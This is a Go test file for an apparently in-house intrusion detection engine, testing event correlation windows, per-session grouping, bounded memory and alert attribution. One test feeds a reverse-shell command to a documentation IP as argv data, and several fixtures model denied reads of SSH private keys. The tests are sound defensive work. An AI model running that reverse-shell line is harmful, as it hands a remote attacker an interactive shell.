package detect

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"holdfast.dev/holdfast/internal/floor/event"
)

var began = time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC)

// script makes events a second apart; those with a time keep it as an offset.
func script(events ...event.Event) []event.Event {
	for i := range events {
		if events[i].Time.IsZero() {
			events[i].Time = began.Add(time.Duration(i) * time.Second)
		}
		events[i].Session, events[i].Seq = "s", uint64(i+1)
	}
	return events
}

func at(d time.Duration, e event.Event) event.Event { e.Time = began.Add(d); return e }

func custom(c *Correlation, m Match) Rule {
	return Rule{ID: "custom", Title: "t", Severity: High, Technique: []string{"T1083"}, Match: m, Correlation: c}
}

func denied(path string) event.Event {
	return event.Event{Action: event.FileOpen, Object: path, Verdict: event.Denied}
}

func TestCorrelations(t *testing.T) {
	open, exec, conn := denied("/x"), event.Event{Action: event.ProcExec, Object: "sh"}, event.Event{Action: event.NetConnect, Object: "h:1"}
	steps := []Step{{Match: Match{Actions: []string{event.FileOpen}}}, {Match: Match{Actions: []string{event.ProcExec}}}, {Match: Match{Actions: []string{event.NetConnect}}}}
	ordered := &Correlation{Type: temporalOrdered, Window: time.Minute, Steps: steps}
	anyOrder := &Correlation{Type: temporal, Window: time.Minute, Steps: steps}
	opens := Match{Actions: []string{event.FileOpen}, Verdict: "denied"}
	count := &Correlation{Type: eventCount, Window: time.Minute, AtLeast: 3}
	values := &Correlation{Type: valueCount, Window: time.Minute, AtLeast: 3, Field: "object"}
	byName := &Correlation{Type: valueCount, Window: time.Minute, AtLeast: 2, Field: "object", By: []string{"name"}}
	flood := []event.Event{at(0, open), at(time.Second, exec)}
	for i := range 5000 {
		flood = append(flood, at(2*time.Second+time.Duration(i)*time.Millisecond, open))
	}
	flood = append(flood, at(8*time.Second, conn))
	byAsked := *ordered
	byAsked.By = []string{"asked"}
	byAsked.Steps = []Step{steps[0], {Match: Match{Actions: []string{event.FileLookup}}}}
	groups := []event.Event{denied("/a/first")}
	for i := range 5000 {
		groups = append(groups, at(time.Second+time.Duration(i)*time.Millisecond, event.Event{Action: event.FileLookup, Object: fmt.Sprintf("/n%d", i)}))
	}
	groups = append(groups, at(7*time.Second, event.Event{Action: event.FileLookup, Object: "first"}))
	for _, tt := range []struct {
		name   string
		rule   Rule
		events []event.Event
		want   int
	}{
		{"groups of a later step push nothing out", custom(&byAsked, Match{}), script(groups...), 1},
		{"a later step alone", custom(&byAsked, Match{}), script(groups[1:]...), 0},
		{"the steps in their order", custom(ordered, Match{}), script(open, exec, conn), 1},
		{"the steps in another order", custom(ordered, Match{}), script(exec, open, conn), 0},
		{"any order", custom(anyOrder, Match{}), script(conn, exec, open), 1},
		{"two of three", custom(anyOrder, Match{}), script(conn, open, open, conn), 0},
		{"too late", custom(ordered, Match{}), script(at(0, open), at(time.Second, exec), at(62*time.Second, conn)), 0},
		{"the first step again, then in time", custom(ordered, Match{}), script(at(0, open), at(50*time.Second, open), at(51*time.Second, exec), at(100*time.Second, conn)), 1},
		{"a flood of the first step pushes nothing out", custom(ordered, Match{}), script(flood...), 1},
		{"a sensor comes late", custom(ordered, Match{}), script(at(time.Second, exec), at(2*time.Second, conn), at(0, open)), 1},
		{"a stamp a little too early", custom(ordered, Match{}), script(at(0, open), at(time.Second, exec), at(time.Second-5*time.Millisecond, conn)), 1},
		{"enough events", custom(count, opens), script(open, open, open), 1},
		{"enough, but not in time", custom(count, opens), script(at(0, open), at(40*time.Second, open), at(80*time.Second, open)), 0},
		{"enough, not in order of their times", custom(count, opens), script(at(40*time.Second, open), at(0, open), at(20*time.Second, open)), 1},
		{"the same value again does not count", custom(values, opens), script(open, open, open, denied("/y")), 0},
		{"different values", custom(values, opens), script(open, denied("/y"), denied("/z")), 1},
		{"values of another group", custom(byName, opens), script(denied("/a/x"), denied("/b/y"), denied("/c/z")), 0},
		{"values of one group", custom(byName, opens), script(denied("/a/x"), denied("/b/y"), denied("/c/x")), 1},
	} {
		t.Run(tt.name, func(t *testing.T) {
			alerts, err := Replay(Config{Rules: []Rule{tt.rule}, Alone: true}, tt.events)
			if err != nil || len(alerts) != tt.want {
				t.Errorf("got %d alerts, want %d (%v)", len(alerts), tt.want, err)
			}
		})
	}
}

func TestSessionsAreApart(t *testing.T) {
	rule := custom(&Correlation{Type: eventCount, Window: time.Minute, AtLeast: 2}, Match{Actions: []string{event.FileOpen}})
	events := script(denied("/x"), denied("/x"))
	events[1].Session = "other"
	if alerts, err := Replay(Config{Rules: []Rule{rule}, Alone: true}, events); err != nil || len(alerts) != 0 {
		t.Errorf("events of two sessions were counted together: %v %v", alerts, err)
	}
}

func TestAlertsAreCountedAndBounded(t *testing.T) {
	rule := custom(nil, Match{Actions: []string{event.FileOpen}})
	var events []event.Event
	for range 120 {
		events = append(events, denied("/same"))
	}
	alerts, err := Replay(Config{Rules: []Rule{rule}, Alone: true}, script(events...))
	if err != nil {
		t.Fatal(err)
	}
	var counts []int
	for _, a := range alerts {
		counts = append(counts, a.Count)
	}
	if !slices.Equal(counts, []int{1, 10, 100}) {
		t.Errorf("raised at %v", counts)
	}
	events = events[:0]
	for i := range 5000 {
		events = append(events, denied(fmt.Sprintf("/d/%d", i)))
	}
	if alerts, err = Replay(Config{Rules: []Rule{rule}, Alone: true}, script(events...)); err != nil {
		t.Fatal(err)
	}
	last := alerts[len(alerts)-1]
	if len(alerts) > keptAlerts+5 || last.Key != overflow || last.Count < 1000 {
		t.Errorf("%d alerts of 5000 different things, the last %q of %d", len(alerts), last.Key, last.Count)
	}
}

// TestStateIsBounded feeds every kind of group far more than it may keep.
func TestStateIsBounded(t *testing.T) {
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for i := range 20_000 {
		ev := event.Event{Time: began.Add(time.Duration(i) * 37 * time.Millisecond), Session: "s", Seq: uint64(i), Verdict: event.Denied, Layer: event.LayerView, Process: event.Process{Exec: uint64(i)}}
		switch i % 4 {
		case 0:
			ev.Action, ev.Object = event.FileLookup, fmt.Sprintf("/home/u%d/.ssh/k%d", i, i)
		case 1:
			ev.Action, ev.Object = event.NetQuery, fmt.Sprintf("n%d.d%d.example", i, i%700)
		case 2:
			ev.Action, ev.Object, ev.Process.Executable = event.ProcExec, "sh", "/bin/sh"
		case 3:
			ev.Action, ev.Object = event.FileUnlink, fmt.Sprintf("/w/%d/f", i)
			ev.Verdict = event.Allowed
		}
		e.Observe(ev)
	}
	for _, l := range e.rules {
		if len(l.groups) > keptGroups || len(l.raised) > keptAlerts+1 {
			t.Errorf("%s keeps %d groups and %d alerts", l.ID, len(l.groups), len(l.raised))
		}
		for _, g := range l.groups {
			if len(g.stamps) > maxCount {
				t.Errorf("%s keeps %d events of one group", l.ID, len(g.stamps))
			}
		}
	}
	if len(e.programs.kept) > programs {
		t.Errorf("%d programs are kept", len(e.programs.kept))
	}
	if err := e.Err(); err != nil {
		t.Error(err)
	}
}

// TestRaiseMayObserve shows that a sink may hand the alert's own event back.
func TestRaiseMayObserve(t *testing.T) {
	var e *Engine
	var n atomic.Int32 // Observe is called by many goroutines, and so is Raise
	e, err := New(Config{Raise: func(a Alert) {
		n.Add(1)
		e.Observe(event.Event{Sensor: event.Detect, Action: event.AlertRaise, Object: a.Rule, Session: a.Session})
	}, Place: Place{Home: "/home/you"}})
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for range 100 {
				e.Observe(denied("/home/bob/.ssh/id_rsa"))
			}
		})
	}
	wg.Wait()
	if n.Load() == 0 || e.Err() != nil {
		t.Errorf("%d alerts, %v", n.Load(), e.Err())
	}
}

// TestSensorThatKnowsTheProcessAlone shows that a program is found by its pid,
// and not when the process has ended.
func TestSensorThatKnowsTheProcessAlone(t *testing.T) {
	run := event.Event{Action: event.ProcExec, Object: "git", Process: event.Process{PID: 7, Exec: 3, Executable: "/usr/bin/git"}}
	exit := event.Event{Action: event.ProcExit, Process: event.Process{PID: 7, Exec: 3}}
	look := event.Event{Action: event.FileLookup, Object: "/home/bob/.ssh/id_rsa", Verdict: event.Denied, Process: event.Process{PID: 7}}
	for want, events := range map[string][]event.Event{"/usr/bin/git": script(run, look), "": script(run, exit, look)} {
		alerts, err := Replay(Config{Place: here}, events)
		if err != nil || len(alerts) == 0 || alerts[0].Process.Executable != want {
			t.Errorf("got %+v %v, want the program %q", alerts, err, want)
		}
	}
}

func TestKeysAreBounded(t *testing.T) {
	rule := custom(nil, Match{Actions: []string{event.FileOpen}})
	long := strings.Repeat("/a", 2000)
	alerts, err := Replay(Config{Rules: []Rule{rule}, Alone: true}, script(denied(long+"1"), denied(long+"2"), denied(long+"1")))
	if err != nil || len(alerts) != 2 || len(alerts[0].Key) > keptKey || alerts[0].Key == alerts[1].Key || alerts[0].Object != long+"1" {
		t.Errorf("got %d alerts, %v", len(alerts), err)
	}
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	e.Observe(event.Event{Action: event.ProcExec, Process: event.Process{PID: 1, Exec: 1, Executable: long + "/git", Cwd: long, Argv: []string{"git", long}}})
	if p := e.programs.get(1); p.is&client == 0 || len(p.Executable)+len(p.Cwd)+len(strings.Join(p.Argv, "")) > 2*keptPath+keptBytes {
		t.Errorf("of a long program is kept %d and %d bytes, %q", len(p.Executable), len(p.Cwd), p.Argv)
	}
}

func TestAlertSaysWhatItIsAbout(t *testing.T) {
	events := script(
		event.Event{Action: event.ProcExec, Object: "cat", Process: event.Process{PID: 7, Exec: 3, Executable: "/usr/bin/cat", Argv: []string{"cat", "x"}}},
		event.Event{Action: event.FileLookup, Object: "/home/bob/.ssh/id_rsa", Verdict: event.Denied, Process: event.Process{PID: 7, Exec: 3}},
	)
	alerts, err := Replay(Config{Place: Place{Home: "/home/you"}}, events)
	i := slices.IndexFunc(alerts, func(a Alert) bool { return a.Rule == "credential-denied" })
	if err != nil || i < 0 {
		t.Fatalf("%v %v", alerts, err)
	}
	a := alerts[i]
	if a.Process.Executable != "/usr/bin/cat" || a.Process.PID != 7 || a.Object != "/home/bob/.ssh/id_rsa" || a.Session != "s" || !slices.Equal(a.Events, []uint64{2}) || a.Explanation == "" || a.Technique == nil {
		t.Errorf("%+v", a)
	}
}

// TestSearchOfPathIsNoExecution: a shell tries each directory of PATH, and one
// execution is one alert.
func TestSearchOfPathIsNoExecution(t *testing.T) {
	raised := 0
	e, err := New(Config{Raise: func(Alert) { raised++ }})
	if err != nil {
		t.Fatal(err)
	}
	argv := []string{"bash", "-c", "bash -i >& /dev/tcp/192.0.2.7/443 0>&1"}
	for i, dir := range []string{"/usr/local/sbin/", "/usr/local/bin/", "/usr/sbin/"} {
		e.Observe(event.Event{Sensor: event.Syscall, Action: event.ProcExec, Object: dir + "bash", Verdict: event.Allowed, Error: "ENOENT",
			Process: event.Process{PID: 9, Exec: uint64(i + 1), Argv: argv}})
	}
	if raised > 0 {
		t.Errorf("%d alerts before anything was executed", raised)
	}
	e.Observe(event.Event{Sensor: event.Syscall, Action: event.ProcExec, Object: "/usr/bin/bash", Verdict: event.Allowed,
		Process: event.Process{PID: 9, Exec: 4, Executable: "/usr/bin/bash", Argv: argv}})
	if raised == 0 {
		t.Error("no alert for the execution")
	}
}
